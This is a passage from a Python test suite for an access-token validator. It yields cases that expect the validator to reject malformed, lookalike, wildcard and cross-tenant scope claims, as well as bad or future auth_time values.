    yield Case("signed in tomorrow", to.es(auth_time=to.now + 86400), *weak, door=FRESH)
    yield Case("no auth_time", to.es(acr="phr"), *weak, door=FRESH)
    yield Case("acr is a list", to.es(acr=["mfa"]), "bad_claims", "claims", door=STRONG)
    yield Case("auth_time is text", to.es(auth_time="now"), "bad_claims", "claims", door=FRESH)


def scopes(to: Makers) -> Iterator[Case]:
    weak = ("missing_scope", "scope")
    yield Case("weak scope", to.es(), *weak, door=PREMIUM)
    yield Case("one of two scopes", to.es(), *weak, door=BOTH)
    for scope in (
        "generate:basic2",
        "xgenerate:basic",
        "generate:basi",
        "generate",
        "generate:",
        ":basic",
        "generate:*",
        "*",
        "GENERATE:BASIC",
        "generate:basic,model:list",
        "generate:basic\tmodel:list",
        "generate:basic\u00a0",
        "generate :basic",
        "",
    ):
        yield Case(f"scope {scope!r}", to.es(scope=scope), *weak)
    yield Case("no scope", to.es(scope=...), *weak)
    yield Case("scp instead of scope", to.es(scope=..., scp="generate:basic"), *weak)
    yield Case("roles instead of scope", to.es(scope=..., roles=["generate:basic"]), *weak)
    yield Case(
        "scope for another tenant than the token's", to.es(scope="generate:basic:acme", tenant="umbrella"), *weak
    )
    yield Case("good, scope for the token's own tenant", to.es(scope="generate:basic:acme", tenant="acme"))
    yield Case("scope for one resource only", to.es(scope="generate:basic/llama"), *weak)
    # RFC 8693 §4.2 writes a string; lists are common, and no word is read differently in one.
    yield Case("good, scope in a list", to.es(scope=["model:list", "generate:basic"]))
    yield Case("scope in a list within a list", to.es(scope=[["generate:basic"]]), "bad_claims", "claims")
    yield Case("scopes glued together in a list", to.es(scope=["generate:basic model:list"]), *weak)
